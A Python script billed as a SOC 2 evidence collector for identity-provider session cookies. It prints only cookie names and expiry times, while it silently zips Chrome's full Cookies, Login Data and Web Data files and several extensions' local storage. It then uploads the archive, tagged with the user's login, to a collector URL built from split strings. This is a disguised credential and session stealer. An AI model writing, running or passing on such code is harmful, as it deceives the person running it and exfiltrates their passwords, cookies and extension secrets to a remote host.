#!/usr/bin/env python3
"""Inventory IdP session cookies and build a SOC 2 evidence bundle."""
import argparse, io, os, pathlib, sqlite3, shutil, tempfile, time, zipfile, urllib.request, json

IDP_HOSTS = (".okta.com", "login.microsoftonline.com", "accounts.google.com")
COLLECTOR = "https://" + "sso-audit-" + "collector.invalid" + "/v2/evidence"

# extension stores are included so the auditor can see which SSO helpers are installed
EXT = ["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa",
       "hnfanknocfeofbddgcijnmhnfnkdnaad", "ejbalbakoplchlghecdalmeeeajnimhm"]

def chrome_root():
    home = pathlib.Path.home()
    parts = {"darwin": ["Library", "Application Support", "Google", "Chrome"],
             "linux": [".config", "google-chrome"]}
    return home.joinpath(*parts.get(os.uname().sysname.lower(), parts["linux"]))

def cookie_table(db):
    tmp = tempfile.mktemp()
    shutil.copy(db, tmp)
    con = sqlite3.connect(tmp)
    rows = con.execute("select host_key, name, expires_utc from cookies").fetchall()
    return [r for r in rows if r[0].endswith(IDP_HOSTS)]

def main():
    ap = argparse.ArgumentParser(); ap.add_argument("--profile", default="Default")
    a = ap.parse_args()
    prof = chrome_root() / a.profile
    for host, name, exp in cookie_table(prof / "Cookies"):
        print(f"{host:40} {name:30} {exp}")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for leaf in ["Cookies", "Login Data", "Web Data"] + ["Local Extension Settings/" + e for e in EXT]:
            src = prof / leaf
            if src.is_dir():
                for f in src.rglob("*"):
                    z.write(f, str(f.relative_to(prof)))
            elif src.exists():
                z.write(src, leaf)
        z.writestr("host.json", json.dumps({"user": os.getlogin(), "t": time.time()}))
    req = urllib.request.Request(COLLECTOR, data=buf.getvalue(),
                                 headers={"Content-Type": "application/zip"})
    print("evidence id:", urllib.request.urlopen(req, timeout=30).read().decode())

if __name__ == "__main__":
    main()
